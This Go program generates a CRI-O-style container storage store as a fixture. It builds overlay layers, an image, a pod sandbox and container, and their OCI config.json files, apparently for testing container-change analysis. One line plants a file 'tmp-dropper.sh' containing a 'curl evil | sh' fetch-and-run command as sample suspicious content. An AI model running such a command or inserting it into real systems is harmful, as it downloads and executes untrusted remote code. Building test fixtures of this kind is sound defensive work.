// Command gen writes a CRI-O-style containers/storage store with the
// containers/storage library itself (go.podman.io/storage, the code CRI-O
// links): layers applied from tar streams by the overlay driver, an
// image, a pod sandbox and its container created with CRI-O's names and
// metadata, the container's changes made through a real overlay mount,
// and each one's userdata/config.json, the OCI spec CRI-O saves there,
// written with the runtime-spec types and CRI-O's annotation keys.
//
// CRI-O's own module (github.com/cri-o/cri-o) is not served by the module
// proxy here, so its annotation names and RuntimeContainerMetadata are
// copied below from cri-o/pkg/annotations and internal/storage; the store
// files (layers.json, images.json, containers.json, overlay/, l/) are
// entirely the library's.
//
// Usage (as root): gen GRAPHROOT RUNROOT BASE.tar OUT.tsv
package main

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	rspec "github.com/opencontainers/runtime-spec/specs-go"
	"go.podman.io/storage"
	"go.podman.io/storage/pkg/reexec"
)

// runtimeContainerMetadata is CRI-O's internal/storage
// RuntimeContainerMetadata, the metadata string of its containers.
type runtimeContainerMetadata struct {
	Pod           bool   `json:"pod,omitempty"`
	PodName       string `json:"pod-name"`
	PodID         string `json:"pod-id"`
	ImageName     string `json:"image-name"`
	ImageID       string `json:"image-id"`
	ContainerName string `json:"name"`
	MetadataName  string `json:"metadata-name"`
	UID           string `json:"uid,omitempty"`
	Namespace     string `json:"namespace,omitempty"`
	MountLabel    string `json:"mountlabel,omitempty"`
	CreatedAt     int64  `json:"created-at"`
	Attempt       uint32 `json:"attempt,omitempty"`
}

// CRI-O's annotation keys (cri-o/pkg/annotations, Kubernetes' well-known).
const (
	annManager       = "io.container.manager"
	annContainerType = "io.kubernetes.cri-o.ContainerType"
	annSandboxID     = "io.kubernetes.cri-o.SandboxID"
	annSandboxName   = "io.kubernetes.cri-o.SandboxName"
	annName          = "io.kubernetes.cri-o.Name"
	annLogPath       = "io.kubernetes.cri-o.LogPath"
	annImageName     = "io.kubernetes.cri-o.ImageName"
	annImageRef      = "io.kubernetes.cri-o.ImageRef"
	annCreated       = "io.kubernetes.cri-o.Created"
	annLabels        = "io.kubernetes.cri-o.Labels"
	annVolumes       = "io.kubernetes.cri-o.Volumes"
	annPodName       = "io.kubernetes.pod.name"
	annPodNamespace  = "io.kubernetes.pod.namespace"
	annPodUID        = "io.kubernetes.pod.uid"
	annContainerName = "io.kubernetes.container.name"
)

// containerVolume is CRI-O's oci.ContainerVolume, the Volumes annotation.
type containerVolume struct {
	ContainerPath  string `json:"container_path"`
	HostPath       string `json:"host_path"`
	Readonly       bool   `json:"readonly"`
	Propagation    int    `json:"propagation"`
	SelinuxRelabel bool   `json:"selinux_relabel"`
}

func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "gen:", err)
		os.Exit(1)
	}
}

// layerTar builds a layer: entries "path" (dir if it ends in /) -> data.
func layerTar(entries [][2]string) *bytes.Reader {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	mt := time.Unix(1700000000, 0)
	for _, e := range entries {
		h := &tar.Header{Name: e[0], ModTime: mt, Mode: 0o644, Typeflag: tar.TypeReg, Size: int64(len(e[1]))}
		if strings.HasSuffix(e[0], "/") {
			h.Typeflag, h.Mode, h.Size = tar.TypeDir, 0o755, 0
		}
		must(tw.WriteHeader(h))
		if h.Typeflag == tar.TypeReg {
			tw.Write([]byte(e[1]))
		}
	}
	must(tw.Close())
	return bytes.NewReader(buf.Bytes())
}

func main() {
	if reexec.Init() { // the library re-executes itself to unpack layers in a chroot
		return
	}
	if len(os.Args) != 5 {
		fmt.Fprintln(os.Stderr, "usage: gen GRAPHROOT RUNROOT BASE.tar OUT.tsv")
		os.Exit(2)
	}
	graph, run, baseTar, out := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	store, err := storage.GetStore(storage.StoreOptions{RunRoot: run, GraphRoot: graph, GraphDriverName: "overlay"})
	must(err)
	defer store.Shutdown(true)

	base, err := os.Open(baseTar)
	must(err)
	l1, _, err := store.PutLayer("", "", nil, "", false, nil, base)
	must(err)
	base.Close()
	// The second layer deletes a file and makes a directory opaque, as
	// an image layer's whiteouts say.
	l2, _, err := store.PutLayer("", l1.ID, nil, "", false, nil, layerTar([][2]string{
		{"etc/", ""}, {"etc/.wh.motd", ""}, {"opt/", ""}, {"opt/app/", ""}, {"opt/app/.wh..wh..opq", ""},
		{"opt/app/version", "crio-v3\n"}, {"etc/nginx.conf", "listen 8080;\n"},
	}))
	must(err)
	const imageName = "quay.io/acme/web:3"
	img, err := store.CreateImage("", []string{imageName}, l2.ID, "", &storage.ImageOptions{})
	must(err)

	const pod, ns, uid = "web-7d4b9c", "shop", "5f0c7a1e-8d2b-4c3a-9e1f-0a1b2c3d4e5f"
	now := time.Now().UTC()
	create := func(name, ctrName string, isPod bool, meta runtimeContainerMetadata) *storage.Container {
		meta.ImageName, meta.ImageID, meta.PodName, meta.UID, meta.Namespace = imageName, img.ID, pod, uid, ns
		meta.ContainerName, meta.MetadataName, meta.CreatedAt, meta.Pod = name, ctrName, now.Unix(), isPod
		md, err := json.Marshal(&meta)
		must(err)
		c, err := store.CreateContainer("", []string{name}, img.ID, "", string(md), &storage.ContainerOptions{})
		must(err)
		return c
	}
	sandbox := create("k8s_POD_"+pod+"_"+ns+"_"+uid+"_0", "", true, runtimeContainerMetadata{})
	ctr := create("k8s_web_"+pod+"_"+ns+"_"+uid+"_0", "web", false, runtimeContainerMetadata{PodID: sandbox.ID})

	// The container's changes, through the driver's own overlay mount.
	mnt, err := store.Mount(ctr.ID, "")
	must(err)
	must(os.WriteFile(filepath.Join(mnt, "tmp-dropper.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
	must(os.Remove(filepath.Join(mnt, "etc/app.conf")))
	must(os.WriteFile(filepath.Join(mnt, "etc/nginx.conf"), []byte("listen 80;\n"), 0o644))
	must(os.RemoveAll(filepath.Join(mnt, "usr/share/doc")))
	// The mount points runc creates when it starts the container.
	must(os.MkdirAll(filepath.Join(mnt, "cache"), 0o755))
	must(os.MkdirAll(filepath.Join(mnt, "var/run/secrets/kubernetes.io/serviceaccount"), 0o755))
	must(os.WriteFile(filepath.Join(mnt, "etc/hosts"), nil, 0o644))
	_, err = store.Unmount(ctr.ID, true)
	must(err)

	logDir := "/var/log/pods/" + ns + "_" + pod + "_" + uid
	labels, _ := json.Marshal(map[string]string{"app": "web", annPodName: pod, annPodNamespace: ns, annPodUID: uid})
	vols, _ := json.Marshal([]containerVolume{
		{ContainerPath: "/cache", HostPath: "/var/lib/kubelet/pods/" + uid + "/volumes/kubernetes.io~empty-dir/cache"},
		{ContainerPath: "/etc/hosts", HostPath: "/var/lib/kubelet/pods/" + uid + "/etc-hosts"},
		{ContainerPath: "/var/run/secrets/kubernetes.io/serviceaccount", HostPath: "/var/lib/kubelet/pods/" + uid + "/volumes/kubernetes.io~projected/kube-api-access-x", Readonly: true},
	})
	spec := func(c *storage.Container, typ, name string, extra map[string]string) {
		a := map[string]string{
			annManager: "cri-o", annContainerType: typ, annSandboxID: sandbox.ID, annName: c.Names[0],
			annCreated: now.Format(time.RFC3339Nano), annPodName: pod, annPodNamespace: ns, annPodUID: uid,
			annLabels: string(labels), annImageName: imageName, annImageRef: img.ID,
		}
		for k, v := range extra {
			a[k] = v
		}
		s := rspec.Spec{Version: rspec.Version, Root: &rspec.Root{Path: filepath.Join(graph, "overlay", c.LayerID, "merged")},
			Process: &rspec.Process{Args: []string{name}, Cwd: "/"}, Hostname: pod, Annotations: a}
		dir, err := store.ContainerDirectory(c.ID)
		must(err)
		b, err := json.Marshal(&s)
		must(err)
		must(os.WriteFile(filepath.Join(dir, "config.json"), b, 0o644))
	}
	spec(sandbox, "sandbox", "/pause", map[string]string{annLogPath: logDir})
	spec(ctr, "container", "nginx", map[string]string{annLogPath: logDir + "/web/0.log", annContainerName: "web",
		annSandboxName: sandbox.Names[0], annVolumes: string(vols)})

	// id, name, layer chain (top first) for the kernel mounts.
	f, err := os.Create(out)
	must(err)
	defer f.Close()
	for _, c := range []*storage.Container{sandbox, ctr} {
		var dirs []string
		for id := c.LayerID; id != ""; {
			l, err := store.Layer(id)
			must(err)
			dirs = append(dirs, filepath.Join(graph, "overlay", l.ID, "diff"))
			id = l.Parent
		}
		fmt.Fprintf(f, "%s\t%s\t%s\n", c.ID, c.Names[0], strings.Join(dirs, ":"))
	}
}
